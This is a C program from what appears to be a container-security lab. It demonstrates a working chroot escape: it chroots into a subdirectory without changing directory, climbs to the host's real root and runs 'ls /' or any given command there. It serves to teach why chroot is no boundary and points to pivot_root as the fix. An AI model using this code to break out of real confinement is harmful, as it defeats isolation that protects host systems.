/*
 * chroot-escape — why chroot alone is not a security boundary (lab01's last step).
 *
 * A process that is root inside a chroot can leave it: chroot() changes the root directory
 * but not the working directory, so a process that chroots into a subdirectory without
 * chdir-ing into it is left *outside* its own new root. From there, ".." is no longer
 * stopped at the root and climbs up to the real "/" of the host; chroot(".") makes that the
 * root again. Mount namespaces with pivot_root (lab02) close this door: the host's tree is
 * then not mounted in the container at all.
 *
 * usage (inside a container): chroot-escape [COMMAND [ARG...]]   default: ls /
 * Reads only: by default it lists the host's "/" and exits.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	/* Paths are relative to the working directory, the container's "/" (see step 2). */
	const char *dir = "tmp/.chroot-escape";

	/* Step 1: a directory to chroot into, below our current root. */
	if (chdir("/") == -1 || (mkdir(dir, 0700) == -1 && errno != EEXIST)) {
		fprintf(stderr, "chroot-escape: mkdir %s: %s\n", dir, strerror(errno));
		return 1;
	}
	/* Step 2: chroot into it, but do NOT chdir: our working directory is now outside the
	 * root. This needs CAP_SYS_CHROOT, which root in a plain chroot still has. */
	if (chroot(dir) == -1) {
		fprintf(stderr,
			"chroot-escape: chroot %s: %s (not root, or the capability was "
			"dropped)\n",
			dir, strerror(errno));
		return 1;
	}
	rmdir(dir); /* tidy up: the working directory, not the new root, is what matters */

	/* Step 3: climb. ".." only stops at the process's root, and we are outside it. */
	for (int i = 0; i < 64; i++)
		if (chdir("..") == -1)
			break;
	/* Step 4: make the real top of the tree our root again. */
	if (chroot(".") == -1) {
		fprintf(stderr, "chroot-escape: chroot .: %s\n", strerror(errno));
		return 1;
	}
	fprintf(stderr, "chroot-escape: out of the chroot; now running in the real root:\n");
	if (argc > 1) {
		execvp(argv[1], &argv[1]);
	} else {
		char *ls[] = { (char *)"ls", (char *)"/", NULL };
		execvp(ls[0], ls);
	}
	fprintf(stderr, "chroot-escape: exec: %s\n", strerror(errno));
	return 127;
}
